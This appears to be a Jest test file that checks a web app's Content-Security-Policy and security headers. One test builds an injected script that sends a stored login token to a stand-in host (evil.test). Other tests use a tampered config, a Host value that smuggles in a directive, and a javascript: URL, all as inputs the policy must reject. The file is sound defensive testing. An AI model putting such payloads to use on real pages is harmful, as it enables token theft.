import { createHash } from 'node:crypto';
import { mkdtempSync, mkdirSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { brotliDecompressSync } from 'node:zlib';
import { JSDOM } from 'jsdom';
import type { AppConfig } from '../src/config';
import { inlineHashes, remotesOrigin } from '../src/modules/site/page-config';
import { createTestApp, type TestApp } from './helpers';

/**
 * Content-Security-Policy (modules/site/page-config.ts, plugins/security-headers.ts): the page runs
 * only its own files and exactly the inline scripts it was served with; every other answer allows
 * nothing at all.
 */

/** An index.html as the shell's build writes it: the configuration marker, an inline early script, deferred files. */
const EARLY_SCRIPT =
  '(()=>{var e="caf\u00e9 <\\/script>";window.__LPK_ROLLOUT__=fetch("/rollout.json").then(r=>r.json());\r\nwindow.__LPK_ROLLOUT__.catch(()=>{})})()';
const HTML = [
  '<!doctype html><html lang="id"><head><meta charset="utf-8"><title>LPK Kaigo</title>',
  '<!--LPK_CONFIG-->',
  `<script>${EARLY_SCRIPT}</script>`,
  '<!-- <script>notAScript()</script> -->',
  '<script defer="defer" src="/shell/main.0123abcd.js"></script>',
  '<link href="/shell/main.0123abcd.css" rel="stylesheet">',
  '</head><body><div id="shell-header"></div><main id="main"></main></body></html>',
].join('\r\n');

const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

/** `{ directive: [sources] }` of a Content-Security-Policy header. */
function directives(header: string | string[] | number | undefined): Record<string, string[]> {
  expect(typeof header).toBe('string');
  const result: Record<string, string[]> = {};
  for (const part of String(header).split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (!name) continue;
    expect(result[name]).toBeUndefined(); // a directive given twice: the browser ignores the second
    result[name] = sources;
  }
  return result;
}

/** What a browser's HTML parser makes of the page: the text of each inline script, in page order. */
function inlineScriptsOf(html: string): string[] {
  const { document } = new JSDOM(html).window;
  return [...document.querySelectorAll('script')].filter((script) => !script.hasAttribute('src')).map((script) => script.textContent ?? '');
}

describe('Content-Security-Policy', () => {
  let dir: string;
  const apps: TestApp[] = [];

  beforeAll(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'lpk-csp-'));
    const write = (file: string, content: string) => {
      mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
      writeFileSync(path.join(dir, file), content);
    };
    write('shell/index.html', HTML);
    write('shell/main.0123abcd.js', 'console.log("shell");');
    write('rollout.json', JSON.stringify({ schema: 1, remotes: {} }));
  });

  afterAll(async () => {
    await Promise.all(apps.map((t) => t.close()));
    rmSync(dir, { recursive: true, force: true });
  });

  async function appWith(site: Partial<AppConfig['site']> = {}): Promise<TestApp> {
    // The deploy folder's rollout.json is the truth here (with DATABASE_URL too): the test edits it.
    const t = await createTestApp({
      releaseStore: 'folder',
      site: { staticDir: dir, apiBaseUrl: '', wsHost: '', chatUrl: 'https://wa.me/6281100002026', gtmId: '', ...site },
    });
    apps.push(t);
    return t;
  }

  const get = (t: TestApp, url: string, headers: Record<string, string> = {}) => t.app.inject({ method: 'GET', url, headers });

  describe('the page, with the default configuration', () => {
    let t: TestApp;
    let wsPort: number;
    beforeAll(async () => {
      t = await appWith();
      wsPort = t.app.config.pusher.port;
    });

    it('allows its own files, its inline scripts by hash, the real-time server, and nothing else', async () => {
      const res = await get(t, '/search', { host: 'lpk.example.id:8080' });
      const policy = directives(res.headers['content-security-policy']);
      const scripts = inlineScriptsOf(res.body);
      expect(policy).toEqual({
        'default-src': ["'self'"],
        'script-src': ["'self'", ...scripts.map(sha256)],
        'style-src': ["'self'"],
        'img-src': ["'self'", 'data:', 'blob:'],
        'connect-src': ["'self'", `ws://lpk.example.id:${wsPort}`, 'wss://lpk.example.id'],
        'object-src': ["'none'"],
        'base-uri': ["'none'"],
        'form-action': ["'self'"],
        'frame-ancestors': ["'none'"],
      });
    });

    it('holds the hashes of exactly the inline scripts served: the configuration and the early script', async () => {
      const res = await get(t, '/');
      const scripts = inlineScriptsOf(res.body);
      expect(scripts).toHaveLength(2);
      expect(scripts[0]).toMatch(/^window\.__LPK_CONFIG__=\{/);
      expect(scripts[1]).toBe(EARLY_SCRIPT.replace(/\r\n/g, '\n')); // the parser turns CRLF into LF first
      const scriptSrc = directives(res.headers['content-security-policy'])['script-src'] ?? [];
      expect(scriptSrc.filter((source) => source.startsWith("'sha256-")).sort()).toEqual(scripts.map(sha256).sort());
      expect(inlineHashes(res.body, 'script')).toEqual(scripts.map(sha256));
    });

    it('would not run an injected inline script, nor an inline handler, eval or a script from elsewhere', async () => {
      const res = await get(t, '/');
      const scriptSrc = directives(res.headers['content-security-policy'])['script-src'] ?? [];
      const injected = 'fetch("https://evil.test/?t="+localStorage.getItem("lpk_token"))';
      expect(scriptSrc).not.toContain(sha256(injected));
      // The page's own configuration script with one value changed is another script.
      const config = inlineScriptsOf(res.body)[0] ?? '';
      expect(scriptSrc).not.toContain(sha256(config.replace('"gtmId":""', '"gtmId":"GTM-EVIL"')));
      for (const loose of ["'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "'strict-dynamic'", '*', 'data:', 'blob:', 'https:', 'http:']) {
        expect(scriptSrc).not.toContain(loose);
      }
      // An injected page inside the page's HTML, once it is served, has a hash the policy does not know.
      const tampered = res.body.replace('</head>', `<script>${injected}</script></head>`);
      expect(inlineHashes(tampered, 'script').filter((hash) => !scriptSrc.includes(hash))).toEqual([sha256(injected)]);
    });

    it('is sent for every client route, every encoding and with a 304', async () => {
      const expected = (await get(t, '/')).headers['content-security-policy'];
      for (const url of ['/', '/search/tokyo?fee=low', '/admin/dashboard', '/shell/index.html']) {
        expect((await get(t, url)).headers['content-security-policy']).toBe(expected);
      }
      const br = await get(t, '/login', { 'accept-encoding': 'br' });
      expect(br.headers['content-encoding']).toBe('br');
      expect(br.headers['content-security-policy']).toBe(expected);
      expect(
        inlineScriptsOf(brotliDecompressSync(br.rawPayload).toString())
          .map(sha256)
          .every((hash) => String(expected).includes(hash)),
      ).toBe(true);
      const notModified = await get(t, '/login', { 'if-none-match': String(br.headers.etag), 'accept-encoding': 'br' });
      expect(notModified.statusCode).toBe(304);
      expect(notModified.headers['content-security-policy']).toBe(expected);
    });

    it('lets the page reach the real-time server on the host it was asked for, and no host name can widen the policy', async () => {
      const connect = async (host: string) => directives((await get(t, '/', { host })).headers['content-security-policy'])['connect-src'];
      expect(await connect(`127.0.0.1:${t.app.config.port}`)).toEqual(["'self'", `ws://127.0.0.1:${wsPort}`, 'wss://127.0.0.1']);
      expect(await connect('LPK.Example.ID')).toEqual(["'self'", `ws://lpk.example.id:${wsPort}`, 'wss://lpk.example.id']);
      // Not a host name a source can hold (IPv6 literal, or an attempt to add directives): any host, that port only.
      expect(await connect('[::1]:8080')).toEqual(["'self'", `ws://*:${wsPort}`, 'wss://*']);
      const odd = await get(t, '/', { host: 'a.test;script-src' });
      expect(directives(odd.headers['content-security-policy'])['script-src']).toEqual(["'self'", ...inlineScriptsOf(odd.body).map(sha256)]);
    });

    it('leaves out the tag manager when no GTM_ID is configured', async () => {
      expect(String((await get(t, '/')).headers['content-security-policy'])).not.toContain('googletagmanager');
    });
  });

  describe('the page, configured', () => {
    it('allows the tag manager for scripts, requests and images only with GTM_ID', async () => {
      const t = await appWith({ gtmId: 'GTM-TEST' });
      const res = await get(t, '/');
      const policy = directives(res.headers['content-security-policy']);
      expect(res.body).toContain('"gtmId":"GTM-TEST"');
      for (const name of ['script-src', 'connect-src', 'img-src']) expect(policy[name]).toContain('https://www.googletagmanager.com');
      for (const name of ['default-src', 'style-src']) expect(policy[name]).not.toContain('https://www.googletagmanager.com');
      // Its configuration script differs, and so does its hash.
      expect(policy['script-src']).toEqual(["'self'", ...inlineScriptsOf(res.body).map(sha256), 'https://www.googletagmanager.com']);
    });

    it('allows the API host when PUBLIC_API_URL points elsewhere, and a configured real-time host whatever the page host', async () => {
      const t = await appWith({ apiBaseUrl: 'https://api.lpk.example.id/base/', wsHost: 'ws.lpk.example.id' });
      const wsPort = t.app.config.pusher.port;
      const policy = directives((await get(t, '/', { host: 'www.lpk.example.id' })).headers['content-security-policy']);
      expect(policy['connect-src']).toEqual(["'self'", 'https://api.lpk.example.id', `ws://ws.lpk.example.id:${wsPort}`, 'wss://ws.lpk.example.id']);
      expect(policy['img-src']).toEqual(["'self'", 'data:', 'blob:', 'https://api.lpk.example.id']);
    });

    it("names the proxy's real-time port (PUBLIC_WS_PORT) in the page's configuration and its connect-src, not the node's own", async () => {
      const t = await appWith({ wsPort: 8800 });
      expect(t.app.config.pusher.port).not.toBe(8800);
      const res = await get(t, '/', { host: 'localhost:8800' });
      expect(res.body).toContain('"wsPort":8800');
      expect(directives(res.headers['content-security-policy'])['connect-src']).toEqual(["'self'", 'ws://localhost:8800', 'wss://localhost']);
    });

    it("allows the remotes' origin when the rollout manifest moves them to another host, and follows the manifest", async () => {
      const t = await appWith();
      const rollout = path.join(dir, 'rollout.json');
      const policyNow = async () => directives((await get(t, '/')).headers['content-security-policy']);
      try {
        writeFileSync(rollout, JSON.stringify({ schema: 1, baseUrl: 'https://cdn.lpk.example.id/remotes/', remotes: {} }));
        utimesSync(rollout, new Date(), new Date(Date.now() + 5_000));
        const moved = await policyNow();
        for (const name of ['default-src', 'script-src', 'style-src', 'img-src', 'connect-src']) expect(moved[name]).toContain('https://cdn.lpk.example.id');
        expect(moved['script-src']).toEqual(expect.arrayContaining([expect.stringMatching(/^'sha256-/)]));
        writeFileSync(rollout, JSON.stringify({ schema: 1, baseUrl: '/remotes', remotes: {} }));
        utimesSync(rollout, new Date(), new Date(Date.now() + 10_000));
        expect(JSON.stringify(await policyNow())).not.toContain('cdn.lpk.example.id');
      } finally {
        writeFileSync(rollout, JSON.stringify({ schema: 1, remotes: {} }));
      }
    });

    it('finds inline scripts and styles as the HTML parser does, and a remotes origin only in an http(s) baseUrl', () => {
      expect(inlineHashes('<style>main{color:red}</style><script src="/a.js"></script>', 'style')).toEqual([sha256('main{color:red}')]);
      expect(inlineHashes('<style>main{color:red}</style><script src="/a.js"></script>', 'script')).toEqual([]);
      expect(remotesOrigin('{"baseUrl":"https://cdn.example.id:8443/r"}')).toBe('https://cdn.example.id:8443');
      for (const manifest of ['{"baseUrl":"/remotes"}', '{"baseUrl":"javascript:alert(1)"}', '{}', 'not json', null])
        expect(remotesOrigin(manifest)).toBeNull();
      expect(inlineHashes('<SCRIPT type="module">a()</SCRIPT ><script>a()</script><!--<script>b()</script>-->', 'script')).toEqual([sha256('a()')]);
    });
  });

  describe('every other answer', () => {
    it('allows nothing to load and no framing: JSON, errors, files, the manifest', async () => {
      const t = await appWith();
      for (const url of ['/health', '/api/lpk/institutions', '/api/nothing-here', '/shell/main.0123abcd.js', '/rollout.json', '/shell/missing.js']) {
        const res = await get(t, url, { accept: 'application/json' });
        expect({ url, policy: directives(res.headers['content-security-policy']) }).toEqual({
          url,
          policy: { 'default-src': ["'none'"], 'frame-ancestors': ["'none'"] },
        });
      }
    });

    it("sends a JSON answer the API's four security headers, and a page or file helmet's whole set", async () => {
      const t = await appWith();
      const documentOnly = ['x-frame-options', 'referrer-policy', 'cross-origin-opener-policy', 'x-xss-protection'];
      for (const url of ['/api/lpk/institutes', '/api/nothing-here', '/health']) {
        const res = await get(t, url, { accept: 'application/json' });
        expect({
          url,
          nosniff: res.headers['x-content-type-options'],
          corp: res.headers['cross-origin-resource-policy'],
          hsts: res.headers['strict-transport-security'],
        }).toEqual({
          url,
          nosniff: 'nosniff',
          corp: 'same-site',
          hsts: 'max-age=31536000; includeSubDomains',
        });
        for (const name of documentOnly) expect({ url, name, value: res.headers[name] }).toEqual({ url, name, value: undefined });
      }
      for (const url of ['/search', '/shell/main.0123abcd.js', '/rollout.json']) {
        const res = await get(t, url, { host: 'lpk.example.id' });
        expect({
          url,
          frame: res.headers['x-frame-options'],
          hsts: res.headers['strict-transport-security'],
          nosniff: res.headers['x-content-type-options'],
        }).toEqual({
          url,
          frame: 'SAMEORIGIN',
          hsts: 'max-age=31536000; includeSubDomains',
          nosniff: 'nosniff',
        });
      }
    });

    it('is the same without a front end', async () => {
      const t = await createTestApp();
      apps.push(t);
      const res = await get(t, '/health');
      expect(directives(res.headers['content-security-policy'])).toEqual({ 'default-src': ["'none'"], 'frame-ancestors': ["'none'"] });
    });
  });
});
